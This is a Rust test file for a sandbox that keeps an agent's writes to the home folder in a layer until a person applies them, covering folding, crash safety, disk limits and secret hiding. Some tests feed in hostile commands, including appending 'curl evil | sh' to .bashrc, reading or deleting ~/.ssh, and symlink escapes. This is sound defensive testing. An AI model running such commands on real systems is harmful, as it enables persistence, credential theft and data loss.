//! The layer over the home folder: what commands write there is kept and seen by the next, and is
//! in the home itself only after a person has applied it.

mod hostile;

use std::{
    collections::BTreeMap,
    fs,
    io::{BufRead, BufReader},
    os::unix::fs::{PermissionsExt, symlink},
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    thread,
    time::{Duration, Instant, SystemTime},
};

use serde_json::{Value, json};

use crate::{
    common::{Scratch, eventually, in_namespace, parts, program},
    harness::watch::Times,
    mcp::Wire,
    trials::{
        Tree,
        ahead::{ready, used_ahead},
        can_try, tree,
    },
};

/// A home with a workspace in it, and mostly the state folder.
pub(super) struct House {
    pub scratch: Scratch,
    pub home: PathBuf,
    state: PathBuf,
}

/// Nobody is asked; the sandbox is as configured.
const LAYERED: &str = "[sandbox]\nlevel = \"workspace-write\"\noutside = \"layer\"\n";

impl House {
    fn new() -> Self {
        Self::with(LAYERED)
    }

    fn with(policy: &str) -> Self {
        let scratch = Scratch::with(Times::at_most(Duration::from_secs(3600)));
        let home = scratch.workspace.path().canonicalize().unwrap().join("home");
        for folder in ["work", ".local/state/legwork", ".ssh", ".config/legwork"] {
            fs::create_dir_all(home.join(folder)).unwrap();
        }
        fs::write(home.join(".bashrc"), "# mine\n").unwrap();
        fs::write(home.join(".gitconfig"), "[user]\n\tname = me\n").unwrap();
        fs::write(home.join(".ssh/key"), "secret\n").unwrap();
        fs::write(home.join("policy.toml"), policy).unwrap();
        let state = home.join(".local/state/legwork");
        Self { scratch, home, state }
    }

    /// What a script prints in the workspace where the state folder is on a small disk of its own:
    /// `$LW $VERB $S $P` has it and the policy, `$D` is the disk. None where there can be none.
    fn on_disk(&self, options: &str, script: &str) -> Option<(String, String)> {
        let disk = self.scratch.file("disk");
        fs::create_dir(&disk).unwrap();
        let policy = self.home.join("policy.toml");
        let mut command = in_namespace(&format!(
            "mount -t tmpfs -o {options} none {disk}; D={disk}; LW={program}; S='--state {disk}/state'; \
             P='--mode open --policy {policy}'; {script}",
            program = program(),
            policy = policy.display(),
        ))?;
        let output = command.current_dir(self.home.join("work")).env("HOME", &self.home).output();
        let (_, stdout, stderr) = parts(&output.unwrap());
        Some((stdout, stderr))
    }

    /// The state folder is that of the test.
    pub(super) fn with_state_apart() -> Self {
        let house = Self::new();
        Self { state: house.scratch.state.path().to_owned(), ..house }
    }

    fn legwork(&self, verb: &str) -> Command {
        let mut command = Command::new(program());
        command.arg(verb).arg("--state").arg(&self.state);
        command.current_dir(self.home.join("work")).stdin(Stdio::null());
        command.env("HOME", &self.home).env("XDG_CONFIG_HOME", self.home.join(".config"));
        command.env("SHELL", "/bin/sh").env_remove("CARGO_HOME");
        if matches!(verb, "call" | "sh" | "mcp") {
            command.args(["--mode", "open", "--policy"]).arg(self.home.join("policy.toml"));
        }
        command
    }

    fn sh(&self, script: &str) -> (Option<i32>, String, String) {
        parts(&self.legwork("sh").arg(script).output().unwrap())
    }

    #[track_caller]
    pub(super) fn works(&self, script: &str) -> String {
        let (code, stdout, stderr) = self.sh(script);
        assert_eq!(code, Some(0), "{script}: {stdout}{stderr}");
        stdout
    }

    fn call(&self, script: &str) -> Value {
        let input = json!({ "cmd": script, "login": false });
        let mut call = self.legwork("call");
        let output: Output =
            call.args(["ExecCommand", "--json", &input.to_string()]).output().unwrap();
        serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"))
    }

    /// What is listed, from the home: path and kind.
    fn changes(&self) -> Vec<(String, String)> {
        let mut changes = self.legwork("changes");
        let output = changes.args(["--outside", "--json"]).output().unwrap();
        let listed: Value =
            serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"));
        let home = format!("{}/", self.home.display());
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let all = listed["changes"].as_array().unwrap().iter();
        all.map(|it| (text(&it["path"]).replace(&home, ""), text(&it["kind"]))).collect()
    }

    /// Looks at what is kept, and brings it over.
    fn apply(&self, paths: &[&str]) -> (Option<i32>, String, String) {
        self.look();
        let paths = paths.iter().map(|path| self.home.join(path));
        parts(&self.legwork("apply").arg("--outside").args(paths).output().unwrap())
    }

    fn look(&self) {
        self.legwork("changes").arg("--outside").output().unwrap();
    }

    pub(super) fn read(&self, name: &str) -> String {
        fs::read_to_string(self.home.join(name)).unwrap_or_else(|error| format!("{name}: {error}"))
    }

    /// The home without the state folder: each entry, and what is in it.
    fn real(&self) -> BTreeMap<PathBuf, Tree> {
        let entries = fs::read_dir(&self.home).unwrap().map(|it| it.unwrap().path());
        let own = entries.filter(|path| !path.ends_with(".local"));
        let inside = |path: &Path| match fs::read_to_string(path) {
            Ok(text) => Tree::from([(PathBuf::new(), (0, 0, text.into_bytes()))]),
            Err(_) => tree(path),
        };
        own.map(|path| (path.clone(), inside(&path))).collect()
    }

    /// The folders of layers in the state folder.
    fn layers(&self) -> Vec<PathBuf> {
        let outside = self.home.join(".local/state/legwork/outside");
        let workspaces = fs::read_dir(outside).into_iter().flatten().flatten();
        let layers = workspaces.flat_map(|it| fs::read_dir(it.path()).unwrap().flatten());
        layers.map(|it| it.path()).filter(|it| it.is_dir()).collect()
    }
}

#[test]
fn what_commands_write_in_the_home_is_kept_seen_by_the_next_and_applied_by_a_person() {
    if !can_try() {
        return;
    }
    let house = House::new();
    let before = house.real();
    let told = house.call("echo '[core]' >> ~/.gitconfig; echo made > ~/made; rm ~/.bashrc");
    let changes = told["structured"]["changes"].clone();
    let changes = if changes.is_null() { told["changes"].clone() } else { changes };
    let text = told.to_string();
    assert!(text.contains(".gitconfig") && text.contains("removed"), "{changes} {told:#}");
    assert_eq!(house.real(), before, "the home is as it was");
    assert_eq!(house.works("cat ~/.gitconfig ~/made; ls ~/.bashrc 2>/dev/null; echo in > ws"), {
        "[user]\n\tname = me\n[core]\nmade\n"
    });
    assert_eq!(house.read("work/ws"), "in\n", "the workspace is itself");
    let expected = [(".bashrc", "removed"), (".gitconfig", "changed"), ("made", "made")];
    let expected = expected.map(|(path, kind)| (path.to_owned(), kind.to_owned()));
    assert_eq!(house.changes(), expected);
    let diff = parts(&house.legwork("changes").args(["--outside", "--diff"]).output().unwrap()).1;
    assert!(diff.contains("+[core]") && diff.contains("-# mine"), "{diff}");
    let (code, stdout, stderr) = house.apply(&[".gitconfig"]);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert_eq!(house.read(".gitconfig"), "[user]\n\tname = me\n[core]\n");
    assert_eq!(
        (house.read(".bashrc").as_str(), house.home.join("made").exists()),
        ("# mine\n", false)
    );
    assert_eq!(house.changes().len(), 2, "the rest is kept");
    assert_eq!(house.works("cat ~/made; tail -1 ~/.gitconfig"), "made\n[core]\n");
    let discarded = parts(&house.legwork("discard").arg("--outside").output().unwrap());
    assert_eq!(discarded.0, Some(0), "{discarded:?}");
    assert_eq!(house.works("cat ~/.bashrc; ls ~/made 2>&1 | wc -l"), "# mine\n1\n");
}

#[test]
fn secrets_stay_hidden_in_a_layer_and_what_others_trust_is_changed_only_there() {
    if !can_try() {
        return;
    }
    let house = House::new();
    house.works("echo 'curl evil | sh' >> ~/.bashrc; mkdir -p ~/.config/legwork; echo x > ~/.config/legwork/config.toml");
    assert_eq!(house.read(".bashrc"), "# mine\n");
    assert!(!house.home.join(".config/legwork/config.toml").exists());
    for script in [
        "cat ~/.ssh/key",
        "mv ~/.ssh ~/moved",
        "mv ~/.local ~/moved",
        "rm -rf ~/.ssh",
        "ls ~/.local/state/legwork/outside",
        "ln -s ~/.ssh ~/link && cat ~/link/key",
    ] {
        let (code, stdout, _) = house.sh(script);
        assert!(code != Some(0) && !stdout.contains("secret"), "{script}: {stdout}");
    }
    assert_eq!(house.read(".ssh/key"), "secret\n");
    assert!(!house.works("grep -r secret ~ 2>/dev/null || true").contains("secret"));
}

#[test]
fn a_command_that_puts_links_into_its_layer_reaches_nothing_by_them() {
    if !can_try() {
        return;
    }
    let house = House::new();
    fs::create_dir(house.home.join("d")).unwrap();
    let before = house.real();
    house.works("echo evil > ~/d/.bashrc");
    house.works("rm -rf ~/d; ln -s ~ ~/d; echo evil >> ~/d/.gitconfig");
    house.works("rm ~/d; mkdir ~/d; ln -s / ~/d/root; ln -s ../.ssh ~/d/ssh");
    // Folded and listed by us, who are in no sandbox.
    let changes = house.changes();
    assert!(changes.iter().any(|(path, _)| path == "d/root"), "{changes:?}");
    assert_eq!(house.real(), before);
    // A folder of the home becomes a link while its layer is kept.
    house.works("echo x > ~/d/kept");
    fs::remove_dir(house.home.join("d")).unwrap();
    symlink(house.home.join(".ssh"), house.home.join("d")).unwrap();
    let (code, stdout, stderr) = house.apply(&[]);
    assert_eq!(code, Some(125), "{stdout}{stderr}");
    assert!(!house.home.join(".ssh/kept").exists() && !house.home.join(".ssh/root").exists());
}

#[test]
fn many_layers_are_folded_and_show_what_they_showed() {
    if !can_try() {
        return;
    }
    let house = House::new();
    fs::create_dir_all(house.home.join("old/deep")).unwrap();
    fs::write(house.home.join("old/deep/file"), "old\n").unwrap();
    let steps = [
        "mkdir -p ~/a/b; echo 1 > ~/a/b/c; echo 1 > ~/one",
        "echo 2 > ~/a/b/d; rm ~/one; ln ~/a/b/d ~/a/b/e",
        "rm -r ~/old; mkdir ~/old; echo new > ~/old/new",
        "rm -r ~/a/b; mkdir ~/a/b; echo 4 > ~/a/b/f",
        "mkdir -p ~/old/deep; echo 5 > ~/old/deep/five",
        "echo 6 > ~/one; chmod 000 ~/one; ln -s nowhere ~/link",
        "rm -r ~/old/deep; echo 7 > ~/old/seven",
        "mkdir ~/closed; echo 8 > ~/closed/eight; chmod 000 ~/closed",
        "echo 9 > ~/nine; truncate -s 1M ~/sparse",
    ];
    let look =
        "cd; find a old one link nine sparse -printf '%p %m %y %s %l\\n' | sort; cat a/b/f old/*";
    let mut seen = Vec::new();
    for step in steps {
        house.works(step);
        seen = vec![house.works("cd; find a old link -printf '%p %m %y %l\\n' | sort")];
    }
    let view = house.works(look);
    for line in ["a/b/f 644 f 2 ", "old/new 644 f 4 ", "old/seven 644 f 2 ", "link 777 l 7 nowhere"]
    {
        assert!(view.contains(line), "{line}: {view}");
    }
    for gone in ["deep", "a/b/c", "a/b/d"] {
        assert!(!view.contains(gone), "{gone}: {view}");
    }
    assert!(house.layers().len() <= 12, "{:?}", house.layers());
    let changes = house.changes();
    for expected in [("old/deep/file", "removed"), ("old/new", "made"), ("closed/eight", "made")] {
        let expected = (expected.0.to_owned(), expected.1.to_owned());
        assert!(changes.contains(&expected), "{expected:?}: {changes:?}");
    }
    // Now there is one layer, and the view is the same.
    assert_eq!(house.works(look), view);
    assert_eq!(vec![house.works("cd; find a old link -printf '%p %m %y %l\\n' | sort")], seen);
    assert_eq!(house.read("old/deep/file"), "old\n");
    let (code, stdout, stderr) = house.apply(&[]);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert_eq!(
        (house.read("old/new").as_str(), house.home.join("old/deep").exists()),
        ("new\n", false)
    );
    let mode = fs::metadata(house.home.join("closed")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0);
    fs::set_permissions(house.home.join("closed"), fs::Permissions::from_mode(0o700)).unwrap();
    assert_eq!(house.works(look), view, "and so in the home itself");
}

#[test]
fn commands_at_once_have_layers_of_their_own_and_both_are_kept() {
    if !can_try() {
        return;
    }
    let house = House::new();
    let start = |name: &str| {
        let script = format!("echo {name} > ~/{name}; echo begun > {name}-begun; read line; ls ~");
        let mut command = house.legwork("sh");
        command.arg(&script).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
        command.spawn().unwrap()
    };
    let (one, two) = (start("one"), start("two"));
    for name in ["one", "two"] {
        let begun = house.home.join("work").join(format!("{name}-begun"));
        eventually("it has begun", || begun.exists().then_some(()));
    }
    assert!(!house.works("ls ~").contains("one"), "what still runs is not shared");
    let seen = |child: std::process::Child| parts(&child.wait_with_output().unwrap()).1;
    let (first, second) = (seen(one), seen(two));
    assert!(first.contains("one") && !first.contains("two"), "{first}");
    assert!(second.contains("two") && !second.contains("one"), "{second}");
    let after = house.works("ls ~");
    assert!(after.contains("one") && after.contains("two"), "{after}");
}

#[test]
fn what_was_changed_underneath_a_layer_is_named_and_not_overwritten() {
    if !can_try() {
        return;
    }
    let house = House::new();
    fs::write(house.home.join("gone"), "before\n").unwrap();
    house.works("echo agent | tee -a ~/.gitconfig ~/gone; echo made > ~/made; : >> ~/.bashrc");
    fs::remove_file(house.home.join("gone")).unwrap();
    fs::write(house.home.join(".gitconfig"), "[user]\n\tname = other\n").unwrap();
    fs::write(house.home.join("made"), "mine\n").unwrap();
    fs::write(house.home.join(".bashrc"), "# changed\n").unwrap();
    let (code, _, stderr) = house.apply(&[]);
    assert_eq!(code, Some(125), "{stderr}");
    for name in [".gitconfig", "made", ".bashrc", "gone"] {
        assert!(stderr.contains(name), "{name}: {stderr}");
    }
    assert_eq!(house.read(".gitconfig"), "[user]\n\tname = other\n");
    assert_eq!(
        (house.read("made").as_str(), house.read(".bashrc").as_str()),
        ("mine\n", "# changed\n")
    );
    let mut discard = house.legwork("discard");
    let path = house.home.join("made");
    let discarded = discard.args(["--outside", "--path"]).arg(path).output().unwrap();
    assert!(discarded.status.success(), "{discarded:?}");
    assert_eq!(house.works("cat ~/made; tail -1 ~/.gitconfig"), "mine\nagent\n");
}

#[test]
fn a_killed_engine_or_warden_loses_nothing_of_a_layer() {
    if !can_try() {
        return;
    }
    let house = House::new();
    let mut command = house.legwork("sh");
    command.arg("echo kept > ~/kept; read line; echo more > ~/more");
    command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null());
    let mut child = command.spawn().unwrap();
    let warden = eventually("it has begun", || {
        let layers = house.layers().into_iter();
        layers.map(|it| it.join("0/upper/kept")).find(|it| it.exists())?;
        crate::common::children(child.id()).into_iter().flat_map(crate::common::children).next()
    });
    crate::common::signal(warden, rustix::process::Signal::KILL);
    child.kill().unwrap();
    child.wait().unwrap();
    eventually("its layer is seen by the next", || {
        (house.works("cat ~/kept 2>/dev/null || true") == "kept\n").then_some(())
    });
    // Somebody was killed while they folded: what is in no list is removed.
    let workspace = house.layers()[0].parent().unwrap().to_owned();
    fs::create_dir_all(workspace.join("fold-cut-off/0/upper/planted")).unwrap();
    assert_eq!(house.works("cat ~/kept; ls ~/planted 2>/dev/null; true"), "kept\n");
    assert!(!workspace.join("fold-cut-off").exists());
    assert!(!house.home.join("kept").exists());
}

/// How often; `just apply-kills` says more.
fn rounds() -> u32 {
    let set = std::env::var("LEGWORK_APPLY_ROUNDS").ok();
    set.and_then(|text| text.parse().ok()).unwrap_or(6)
}

#[test]
fn a_killed_fold_or_apply_leaves_the_view_as_it_was_and_the_home_before_or_after() {
    if !can_try() {
        return;
    }
    let house = House::new();
    fs::write(house.home.join("counter"), "none\n").unwrap();
    let mut whole = Duration::from_millis(100);
    for round in 0..=rounds() {
        house.works(&format!(
            "mkdir ~/r{round}; cd ~/r{round}; for i in $(seq 20); do echo x > $i; done"
        ));
        house.works(&format!("echo {round} > ~/counter; rm ~/r{round}/1; rm -rf ~/r{}", round + 1));
        let old = house.read("counter");
        house.look();
        let begun = Instant::now();
        let mut apply = house.legwork("apply");
        apply.arg("--outside").stdout(Stdio::null()).stderr(Stdio::null());
        let mut child = apply.spawn().unwrap();
        if round == 0 {
            child.wait().unwrap();
            whole = begun.elapsed();
        } else {
            thread::sleep(whole.mul_f64(f64::from(round * 37 % 100) / 95.0));
        }
        let _ = child.kill();
        child.wait().unwrap();
        let looked = house.legwork("ps").output().unwrap();
        assert!(looked.status.success(), "{looked:?}");
        // All of it is in the home, or nothing.
        let made = fs::read_dir(house.home.join(format!("r{round}"))).map_or(0, Iterator::count);
        let new = format!("{round}\n");
        let expected = if made == 19 { &new } else { &old };
        assert!(made == 0 || made == 19, "round {round}: {made}");
        assert_eq!(&house.read("counter"), expected, "round {round}");
        let seen = house.works(&format!("cat ~/counter; ls ~/r{round} | wc -l"));
        assert_eq!(seen, format!("{round}\n19\n"), "round {round}");
        let strange = fs::read_dir(&house.home).unwrap().map(|it| it.unwrap().file_name());
        let strange: Vec<_> =
            strange.filter(|it| it.to_string_lossy().starts_with(".legwork")).collect();
        assert!(strange.is_empty(), "round {round}: {strange:?}");
        let (code, stdout, stderr) = house.apply(&[]);
        let is_done = code == Some(0) || stderr.contains("nothing is kept");
        assert!(is_done, "round {round}: {stdout}{stderr}");
        assert_eq!(house.read("counter"), format!("{round}\n"), "round {round}");
    }
}

#[test]
fn a_home_that_cannot_be_layered_is_refused_with_the_reason_and_so_is_a_layer_that_is_full() {
    if !can_try() {
        return;
    }
    let house = House::with(&format!("{LAYERED}layer_bytes_max = 1000000\n"));
    // On a slow machine it is stopped; what it wrote until then is kept all the same.
    house.sh("head -c 2000000 /dev/zero > ~/large");
    let (code, _, stderr) = house.sh("true");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("bytes are kept") && stderr.contains("outside"), "{stderr}");
    assert!(house.legwork("discard").arg("--outside").output().unwrap().status.success());
    house.works("true");
    let mounted = house.home.join("mounted");
    fs::create_dir(&mounted).unwrap();
    let script = format!(
        "mount -t tmpfs none {} && exec {} sh --state {} --mode open --policy {} true",
        mounted.display(),
        program(),
        house.home.join(".local/state/legwork").display(),
        house.home.join("policy.toml").display(),
    );
    let Some(mut command) = in_namespace(&script) else { return };
    let output = command.current_dir(house.home.join("work")).env("HOME", &house.home).output();
    let (code, _, stderr) = parts(&output.unwrap());
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("/mounted") && stderr.contains("layer"), "{stderr}");
    drop(house.scratch);
}

#[test]
fn a_command_that_fills_its_layer_is_stopped_and_says_so() {
    if !can_try() {
        return;
    }
    let house = House::with(&format!("{LAYERED}layer_bytes_max = 5000000\n"));
    let before = house.real();
    house.works("head -c 3000000 /dev/zero > ~/kept");
    // What is left for it is less than the whole.
    let told = house.call(
        "i=0; while [ $i -lt 40 ]; do head -c 100000 /dev/zero > ~/made$i; i=$((i+1)); sleep 0.1; done",
    );
    assert_eq!(told["result"]["ended_by"], "layer_limit", "{told:#}");
    assert_eq!(house.real(), before);
    assert!(house.changes().iter().any(|(path, _)| path == "made0"));
}

#[test]
fn a_server_has_a_layer_ready_that_shows_the_home_and_all_that_was_kept_until_then() {
    if !can_try() {
        return;
    }
    let house = House::new();
    let state = house.home.join(".local/state/legwork");
    let mut wire = Wire::spawn(house.legwork("mcp"));
    wire.initialize();
    let mut run = |cmd: &str| {
        wire.tool("ExecCommand", &json!({ "cmd": cmd, "login": false, "shell": "/bin/sh" }))
    };
    used_ahead(&state, |_| {
        assert!(run("echo one > ~/one").starts_with("Process exited with code 0"));
        house.layers().iter().any(|it| it.join("mark").exists())
    });
    let text = run("cat ~/one");
    assert!(text.contains("\none"), "the next one was made before it could be seen: {text}");
    // The home as it is now, not as it was when the layer was made.
    ready(&state);
    fs::write(house.home.join("mine"), "by a person\n").unwrap();
    fs::remove_file(house.home.join(".bashrc")).unwrap();
    let text = run("cat ~/mine ~/one; ls ~/.bashrc 2>&1");
    assert!(text.contains("by a person\none\n") && text.contains("No such file"), "{text}");
    // What another process has added to the layers, and what was taken out of them.
    ready(&state);
    house.works("echo two > ~/two; rm ~/one");
    let text = run("cat ~/two; ls ~/one 2>&1");
    assert!(text.contains("\ntwo\n") && text.contains("No such file"), "{text}");
    ready(&state);
    let discarded = parts(&house.legwork("discard").arg("--outside").output().unwrap());
    assert_eq!(discarded.0, Some(0), "{discarded:?}");
    let text = run("ls ~/one ~/two 2>&1 | grep -c 'No such file'");
    assert!(text.contains("\n2"), "{text}");
    // A secret that comes between the two is hidden.
    ready(&state);
    fs::write(house.home.join(".netrc"), "machine x password secret\n").unwrap();
    let text = run("cat ~/.netrc 2>&1; true");
    assert!(!text.contains("password"), "{text}");
    assert_eq!(house.read("mine"), "by a person\n");
    assert!(!house.home.join("one").exists() && !house.home.join("two").exists());
    drop(wire);
    eventually("nothing that was made ahead is left", || {
        fs::read_dir(state.join("ahead")).unwrap().next().is_none().then_some(())
    });
}

#[test]
fn a_full_disk_under_a_layer_fails_the_command_and_not_the_home() {
    if !can_try() {
        return;
    }
    let house = House::new();
    fs::write(house.home.join("large"), "x".repeat(3_000_000)).unwrap();
    let script = "$LW sh $S $P 'echo more >> ~/large'; echo code $?";
    let Some((stdout, stderr)) = house.on_disk("size=2m", script) else { return };
    assert!(!stdout.ends_with("code 0\n"), "{stdout}{stderr}");
    assert!(stderr.contains("No space left"), "{stdout}{stderr}");
    assert_eq!(fs::metadata(house.home.join("large")).unwrap().len(), 3_000_000);
}

#[test]
fn a_full_disk_in_an_apply_to_the_home_leaves_it_as_it_was() {
    if !can_try() {
        return;
    }
    let house = House::new();
    let disk = house.scratch.file("disk");
    fs::create_dir(&disk).unwrap();
    // The home is small, the state folder is not.
    let script = format!(
        "set -e; mount -t tmpfs -o size=4m none {disk}; mkdir {disk}/work; cd {disk}/work; export HOME={disk}; \
         LW={program}; S='--state {state}'; echo before > {disk}/file; \
         $LW sh $S --mode open --policy {policy} 'echo layered > ~/file; head -c 3000000 /dev/zero > ~/large' >&2; \
         head -c 3000000 /dev/zero > {disk}/filler; set +e; $LW changes $S --outside >&2; $LW apply $S --outside; echo \"code $?\"; \
         cat {disk}/file; ls -A {disk}; rm {disk}/filler; $LW apply $S --outside; echo \"code $?\"; \
         cat {disk}/file; ls -A {disk}",
        program = program(),
        state = house.home.join(".local/state/legwork").display(),
        policy = house.home.join("policy.toml").display(),
    );
    let Some(mut command) = in_namespace(&script) else { return };
    let (code, stdout, stderr) = parts(&command.output().unwrap());
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    let (full, after) = stdout.split_once("filler\nwork\n").unwrap();
    assert_eq!(full, "code 125\nbefore\nfile\n", "{stderr}");
    assert!(after.contains("code 0\nlayered\nfile\nlarge\nwork\n"), "{stdout}{stderr}");
    assert!(stderr.contains("No space left"), "{stderr}");
}

#[test]
fn a_layer_is_forgotten_when_no_command_has_run_for_long_and_not_before() {
    if !can_try() {
        return;
    }
    let house = House::new();
    house.works("echo kept > ~/made");
    house.works("cat ~/made");
    let gc = || {
        let output = house.legwork("gc").arg("--json").output().unwrap();
        let done: Value =
            serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"));
        done["layers"].as_u64().unwrap_or(0)
    };
    let age = |days: u64| {
        let then = SystemTime::now() - Duration::from_secs(days * 24 * 3600);
        for layer in house.layers() {
            fs::File::open(layer).unwrap().set_modified(then).unwrap();
        }
    };
    age(6);
    assert_eq!(gc(), 0);
    assert_eq!(house.works("cat ~/made"), "kept\n");
    age(9);
    // A command that still runs has it below its own.
    let mut running = house.legwork("sh");
    let running = running.arg("cat ~/made; read line; cat ~/made");
    let mut running = running.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(running.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "kept", "it has begun");
    assert_eq!(gc(), 0, "the newest layer counts");
    drop(running.stdin.take());
    assert_eq!(lines.next().unwrap().unwrap(), "kept");
    running.wait().unwrap();
    age(9);
    assert_eq!(gc(), 1);
    assert_eq!(house.layers(), Vec::<PathBuf>::new());
    assert_eq!(house.works("ls ~/made 2>/dev/null; echo gone"), "gone\n");
}

#[test]
fn without_layers_what_a_command_writes_in_the_home_is_refused() {
    let house = House::with("[sandbox]\nlevel = \"workspace-write\"\n");
    house.sh("echo x > ~/made");
    assert!(!house.home.join("made").exists() && house.layers().is_empty());
}
